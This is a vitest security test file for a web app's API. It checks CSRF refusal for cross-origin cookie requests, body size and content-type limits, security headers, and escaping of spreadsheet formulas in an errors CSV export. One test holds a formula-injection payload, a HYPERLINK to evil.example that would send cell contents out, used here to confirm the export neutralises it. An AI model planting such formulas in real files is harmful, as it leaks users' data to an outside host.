// The API's front door, tried as an attacker would against the production build: a session cookie
// sent from another site, a body that is not JSON or is too big, the security headers on every page,
// and an errors CSV holding a spreadsheet formula.
import { parse as parseCsv } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startAppServer, type AppServer } from "./support/app-server";
import { createMember, signInCookie } from "./support/session-cookie";

let app: AppServer;
let cookie: string;
const MEMBER = { email: "csrf-member@example.com", password: "member-password-1" };

beforeAll(async () => {
  app = await startAppServer();
  await createMember(app.dataDir, MEMBER.email, MEMBER.password);
  cookie = await signInCookie(app.url, MEMBER.email, MEMBER.password);
}, 600_000);

afterAll(async () => {
  await app?.stop();
});

const bearer = () => ({ authorization: `Bearer ${app.token}` });

async function post(route: string, headers: Record<string, string>, body: BodyInit) {
  const response = await fetch(`${app.url}/api/v1${route}`, { method: "POST", headers, body, duplex: "half" } as RequestInit);
  const text = await response.text();
  return { status: response.status, text, body: response.headers.get("content-type")?.includes("json") ? JSON.parse(text) : undefined };
}

const syncCount = async () =>
  ((await (await fetch(`${app.url}/api/v1/sources`, { headers: bearer() })).json()) as { sources: { syncs: unknown[] }[] }).sources.reduce((sum, source) => sum + source.syncs.length, 0);

async function demoSyncBody(name: string, query: string) {
  const { sources } = (await (await fetch(`${app.url}/api/v1/sources`, { headers: bearer() })).json()) as { sources: { id: string; kind: string; databases: { id: string }[] }[] };
  const demo = sources.find((source) => source.kind === "demo")!;
  const { destinations } = (await (await fetch(`${app.url}/api/v1/destinations`, { headers: bearer() })).json()) as { destinations: { id: string; kind: string }[] };
  const inbox = destinations.find((destination) => destination.kind === "inbox")!;
  return { name, type: "track", query, frequencyMinutes: 60, sourceId: demo.id, databaseId: demo.databases[0].id, destinationIds: [inbox.id] };
}

describe("a session cookie on /api/v1", () => {
  it("is accepted from the app's own origin with a JSON body (the control)", async () => {
    const reply = await post("/syncs", { cookie, origin: app.url, "content-type": "application/json" }, JSON.stringify({ name: "" }));
    expect(reply.status, reply.text).toBe(422);
    expect(reply.body.error.code).toBe("invalid_input");
  });

  it("is refused from a foreign origin with text/plain (a CSRF form post), and nothing is created", async () => {
    const before = await syncCount();
    const body = JSON.stringify(await demoSyncBody("csrf", "SELECT 1 AS userId, 'e' AS event"));
    for (const origin of ["https://evil.example", "http://sub.127.0.0.1.nip.io", "null"]) {
      const reply = await post("/syncs", { cookie, origin, "content-type": "text/plain" }, body);
      expect(reply.status, origin).toBe(403);
      expect(reply.body.error.code).toBe("forbidden");
    }
    expect(await syncCount()).toBe(before);
  });

  it("is refused without Origin, or when the browser says the request is same-site but not same-origin", async () => {
    const body = JSON.stringify({ name: "" });
    expect((await post("/syncs", { cookie, "content-type": "application/json" }, body)).status).toBe(403);
    expect((await post("/syncs", { cookie, "sec-fetch-site": "same-site", "content-type": "application/json" }, body)).status).toBe(403);
    expect((await post("/syncs", { cookie, origin: app.url, "sec-fetch-site": "cross-site", "content-type": "application/json" }, body)).status).toBe(403);
    expect((await post("/syncs", { cookie, "sec-fetch-site": "same-origin", "content-type": "application/json" }, body)).status).toBe(422);
  });

  it("needs application/json even from its own origin", async () => {
    const reply = await post("/syncs", { cookie, origin: app.url, "content-type": "text/plain" }, JSON.stringify({ name: "" }));
    expect(reply.status).toBe(415);
    expect(reply.body.error.code).toBe("unsupported_media_type");
  });

  it("does not change how bearer tokens work: no Origin needed", async () => {
    const reply = await post("/syncs", { ...bearer(), "content-type": "application/json" }, JSON.stringify({ name: "" }));
    expect(reply.status).toBe(422);
  });
});

describe("request bodies", () => {
  const fiveMiB = JSON.stringify({ name: "x".repeat(5 * 1024 * 1024) });

  it("over 1 MiB get 413 in the error envelope, by Content-Length", async () => {
    const reply = await post("/syncs", { ...bearer(), "content-type": "application/json" }, fiveMiB);
    expect(reply.status).toBe(413);
    expect(reply.body.error.code).toBe("payload_too_large");
  });

  it("over 1 MiB get 413 when streamed without a Content-Length, too", async () => {
    const bytes = new TextEncoder().encode(fiveMiB);
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= bytes.length) return controller.close();
        controller.enqueue(bytes.subarray(sent, (sent += 64 * 1024)));
      },
    });
    const reply = await post("/syncs", { ...bearer(), "content-type": "application/json" }, stream);
    expect(reply.status).toBe(413);
    expect(reply.body.error.code).toBe("payload_too_large");
  });

  it("that are not JSON are refused with 415, and malformed JSON with 422", async () => {
    expect((await post("/syncs", { ...bearer(), "content-type": "application/x-www-form-urlencoded" }, "name=x")).status).toBe(415);
    const reply = await post("/syncs", { ...bearer(), "content-type": "application/json" }, "{ not json");
    expect(reply.status).toBe(422);
    expect(reply.body.error.code).toBe("invalid_input");
  });
});

describe("security headers", () => {
  const pages = ["/", "/sign-in", "/setup", "/sources", "/api/v1/openapi.json", "/robots.txt", "/favicon.svg", "/monaco/vs/loader.js"];

  it.each(pages)("%s carries nosniff, DENY framing and the referrer policy", async (page) => {
    const response = await fetch(`${app.url}${page}`, { redirect: "manual" });
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("x-frame-options")).toBe("DENY");
    expect(response.headers.get("referrer-policy")).toBe("same-origin");
  });

  it.each(["/sign-in", "/setup", "/"])("%s has a nonce CSP without unsafe-eval that forbids framing, and its scripts carry the nonce", async (page) => {
    const first = await fetch(`${app.url}${page}`, { redirect: "manual" });
    const policy = first.headers.get("content-security-policy") ?? "";
    expect(policy).toMatch(/frame-ancestors 'none'/);
    expect(policy).toMatch(/object-src 'none'/);
    expect(policy).not.toMatch(/unsafe-eval/);
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
    expect(nonce).toBeTruthy();
    const html = await first.text();
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
    if (first.status === 200) {
      expect(scripts.length).toBeGreaterThan(0);
      for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
    }
    const second = await fetch(`${app.url}${page}`, { redirect: "manual" });
    expect(second.headers.get("content-security-policy")).not.toBe(policy);
  });

  it("sends HSTS only when reached over HTTPS through a proxy", async () => {
    expect((await fetch(`${app.url}/sign-in`)).headers.get("strict-transport-security")).toBeNull();
    const proxied = await fetch(`${app.url}/sign-in`, { headers: { "x-forwarded-proto": "https" } });
    expect(proxied.headers.get("strict-transport-security")).toMatch(/max-age=\d+/);
  });

  it("serves a robots.txt that keeps the app out of search engines, and a favicon", async () => {
    expect(await (await fetch(`${app.url}/robots.txt`)).text()).toMatch(/User-agent: \*\s+Disallow: \/\s*$/m);
    const icon = await fetch(`${app.url}/favicon.svg`);
    expect(icon.status).toBe(200);
    expect(icon.headers.get("content-type")).toMatch(/svg/);
    expect(await (await fetch(`${app.url}/sign-in`)).text()).toContain('href="/favicon.svg"');
  });
});

describe("GET /api/v1/runs/{id}/errors.csv with a formula in a value", () => {
  it("opens as text in a spreadsheet", async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const query = `SELECT NULL AS userId, NULL AS anonymousId, '${formula.replace(/'/g, "''")}' AS event, '@SUM(1)' AS note`;
    const created = await post("/syncs", { ...bearer(), "content-type": "application/json" }, JSON.stringify(await demoSyncBody("formula", query)));
    expect(created.status, created.text).toBe(201);
    const started = await post(`/syncs/${created.body.id}/runs`, bearer(), "");
    expect(started.status, started.text).toBe(202);
    let run: { status: string; rowsFailed: number } = { status: "running", rowsFailed: 0 };
    for (let attempt = 0; attempt < 120 && run.status === "running"; attempt++) {
      await new Promise((resolve) => setTimeout(resolve, 250));
      run = await (await fetch(`${app.url}/api/v1/runs/${started.body.id}`, { headers: bearer() })).json();
    }
    expect(run.rowsFailed).toBe(1);
    const csv = await (await fetch(`${app.url}/api/v1/runs/${started.body.id}/errors.csv`, { headers: bearer() })).text();
    const [record] = parseCsv(csv, { columns: true, record_delimiter: ["\r\n", "\n", "\r"] }) as Record<string, string>[];
    expect(record.event).toBe(`'${formula}`);
    expect(record.note).toBe("'@SUM(1)");
  });
});
